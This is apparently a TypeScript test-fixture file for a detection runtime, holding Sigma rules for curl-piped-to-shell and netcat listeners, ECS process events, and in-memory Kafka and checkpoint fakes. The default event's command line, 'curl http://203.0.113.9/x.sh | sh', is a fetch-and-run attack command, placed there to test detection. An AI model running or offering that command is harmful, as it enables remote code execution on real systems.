// Fixtures and fakes for the runtime tests: a tiny pipeline and rule set built from text (no
// disk), ECS events, and in-memory stand-ins for Kafka's producer, the control channel and the
// checkpoint index.
import type { ConsumedRecord, ProducerRecord } from '@halong/core/node';
import { createLogger } from '@halong/core/node';
import { indexNames } from '@halong/core';
import type { TopicKey } from '@halong/core';
import { AlertAggregator } from '../../src/alerts';
import { loadPipelineSources } from '../../src/mapping';
import { assembleRulePack, parseSigmaFile } from '../../src/sigma';
import type { CheckpointDoc, CheckpointStore, CheckpointVersion, RuleSet, RuleStateChannel, RuleStateRecord } from '../../src/runtime';
import { DetectionRuntimeError, buildRuleSet } from '../../src/runtime';

export const SILENT = createLogger('test', 'silent');
export const T0 = Date.parse('2026-03-01T10:00:00Z');
export const RULE_ID = '6f1f3e2a-1a7e-4c1e-9a59-0d2b8a6c1a01';
export const QUIET_ID = '6f1f3e2a-1a7e-4c1e-9a59-0d2b8a6c1a02';
export const CORRELATION_ID = '6f1f3e2a-1a7e-4c1e-9a59-0d2b8a6c1a03';

export const PIPELINE = `
version: 1
name: test
entries:
  - logsource: {product: linux, category: process_creation}
    conditions: {host.os.type: linux, event.category: process, event.type: start}
    fields: {CommandLine: process.command_line, Image: process.executable, User: user.name}
`;

export const PIPE_TO_SHELL = `
title: Download piped to a shell
id: ${RULE_ID}
status: test
level: high
tags: [attack.execution, attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
  selection:
    CommandLine|contains|all: ['curl ', '| sh']
  condition: selection
`;

export const QUIET_RULE = `
title: Netcat listener
id: ${QUIET_ID}
status: experimental
level: medium
tags: [attack.command-and-control]
logsource: {product: linux, category: process_creation}
detection:
  selection:
    Image|endswith: /nc
    CommandLine|contains: ' -l'
  condition: selection
`;

export const BURST = `
title: Repeated download to shell on one host
id: ${CORRELATION_ID}
status: test
level: critical
tags: [attack.execution, attack.t1105]
correlation:
  type: event_count
  rules: [${RULE_ID}]
  group-by: [host.name]
  timespan: 5m
  generate: true
  condition: {gte: 3}
`;

export const BROKEN_RULES: [string, string][] = [
  ['rules/broken-condition.yml', `title: Broken\nid: 6f1f3e2a-1a7e-4c1e-9a59-0d2b8a6c1a09\nlogsource: {product: linux, category: process_creation}\ndetection:\n  selection: {Image: /x}\n  condition: selection and missing\n`],
  ['rules/placeholder.yml', `title: Unknown placeholder\nid: 6f1f3e2a-1a7e-4c1e-9a59-0d2b8a6c1a0b\nlogsource: {product: linux, category: process_creation}\ndetection:\n  selection: {User|expand: '%admins%'}\n  condition: selection\n`],
  ['rules/unmapped.yml', `title: No pipeline\nid: 6f1f3e2a-1a7e-4c1e-9a59-0d2b8a6c1a0a\nlogsource: {product: qnx}\ndetection:\n  selection: {Image: /x}\n  condition: selection\n`],
  ['rules/not-yaml.yml', `title: [unclosed\n`],
];

/** A rule set from texts (file name → YAML), compiled against the test pipeline. */
export async function ruleSetOf(files: [string, string][]): Promise<RuleSet> {
  const pack = assembleRulePack(files.map(([file, text]) => parseSigmaFile(text, file)));
  return buildRuleSet(pack, loadPipelineSources([{ file: 'test-pipeline.yml', text: PIPELINE }]));
}

export const standardFiles = (): [string, string][] => [
  ['rules/pipe-to-shell.yml', PIPE_TO_SHELL],
  ['rules/netcat.yml', QUIET_RULE],
  ['rules/burst.yml', BURST],
];

/** A Linux process start as the collectors write it (nested ECS). */
export function processEvent(id: string, at: number, over: { host?: string; cmd?: string; image?: string; user?: string } = {}): Record<string, unknown> {
  return {
    '@timestamp': new Date(at).toISOString(),
    event: { id, kind: 'event', category: ['process'], type: ['start'], dataset: 'linux.auditd' },
    host: { name: over.host ?? 'web-01', os: { type: 'linux' } },
    user: { name: over.user ?? 'alice' },
    source: { ip: '10.0.0.7' },
    process: { command_line: over.cmd ?? 'curl http://203.0.113.9/x.sh | sh', executable: over.image ?? '/usr/bin/bash' },
  };
}

/** A consumed record as runConsumer hands it over. */
export function consumed<T>(topic: string, topicKey: TopicKey, partition: number, offset: number, value: T, raw?: string): ConsumedRecord<T> {
  const text = raw ?? JSON.stringify(value);
  const record: ConsumedRecord<T> = { topic, topicKey, partition, offset: String(offset), key: null, value, raw: text, rawBytes: Buffer.from(text), timestamp: String(T0) };
  if (raw !== undefined) {
    try {
      record.value = JSON.parse(raw) as T;
    } catch (err) {
      record.value = undefined;
      record.decodeError = `value is not JSON: ${(err as Error).message}`;
    }
  }
  return record;
}

/** What was published, per topic. */
export class FakePublisher {
  readonly sent: { topic: TopicKey; key: string | null | undefined; value: unknown }[] = [];
  failNext = false;
  async send(topic: TopicKey, records: readonly ProducerRecord[]): Promise<void> {
    if (this.failNext) {
      this.failNext = false;
      throw new Error('Kafka did not acknowledge');
    }
    for (const r of records) this.sent.push({ topic, key: r.key, value: r.value });
  }
  on<T>(topic: TopicKey): { key: string | null | undefined; value: T }[] {
    return this.sent.filter((s) => s.topic === topic) as { key: string | null | undefined; value: T }[];
  }
}

/** The checkpoint index as a map, with the conditional-write rule of the real one. */
export class MemoryCheckpointStore implements CheckpointStore {
  readonly docs = new Map<string, { doc: CheckpointDoc; version: CheckpointVersion }>();
  loads = 0;
  async load(id: string) {
    this.loads++;
    const d = this.docs.get(id);
    return d ? { offset: d.doc.offset, state: structuredClone(d.doc.state), version: d.version } : undefined;
  }
  async save(id: string, doc: CheckpointDoc, expected: CheckpointVersion | undefined) {
    const current = this.docs.get(id)?.version;
    if (current?.seqNo !== expected?.seqNo) throw new DetectionRuntimeError('HALONG_DETECTION_CHECKPOINT_CONFLICT');
    const version = { seqNo: (current?.seqNo ?? -1) + 1, primaryTerm: 1 };
    this.docs.set(id, { doc: JSON.parse(JSON.stringify(doc)) as CheckpointDoc, version });
    return version;
  }
}

/** The control channel in memory: a set comes back to every listener, like the topic's echo. */
export class MemoryControl implements RuleStateChannel {
  readonly records = new Map<string, RuleStateRecord>();
  private readonly listeners: ((kind: string, id: string, record: RuleStateRecord | undefined) => void)[] = [];
  list<T>(kind: string): RuleStateRecord<T>[] {
    return [...this.records.values()].filter((r) => r.kind === kind) as RuleStateRecord<T>[];
  }
  async set<T>(record: RuleStateRecord<T>): Promise<void> {
    this.records.set(`${record.kind}:${record.id}`, record);
    for (const l of this.listeners) l(record.kind, record.id, record);
  }
  async remove(kind: string, id: string): Promise<void> {
    this.records.delete(`${kind}:${id}`);
    for (const l of this.listeners) l(kind, id, undefined);
  }
  onChange(listener: (kind: string, id: string, record: RuleStateRecord | undefined) => void): void {
    this.listeners.push(listener);
  }
}

/** An aggregator on a frozen wall clock (alerts are re-emitted on flush anyway). */
export const aggregator = () => new AlertAggregator({ clock: { now: () => T0 }, indices: indexNames('halong') });
